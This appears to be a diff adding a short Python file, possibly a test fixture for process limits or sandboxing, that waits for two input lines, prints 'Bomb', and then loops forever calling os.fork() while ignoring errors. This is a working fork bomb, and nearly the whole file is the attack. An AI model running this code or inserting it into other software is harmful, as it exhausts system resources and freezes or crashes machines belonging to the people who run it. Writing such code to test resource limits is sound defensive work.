@@ -1,0 +1,10 @@
+# Doubles as often as it can.
+import os
+input()
+print("Bomb", flush=True)
+input()
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
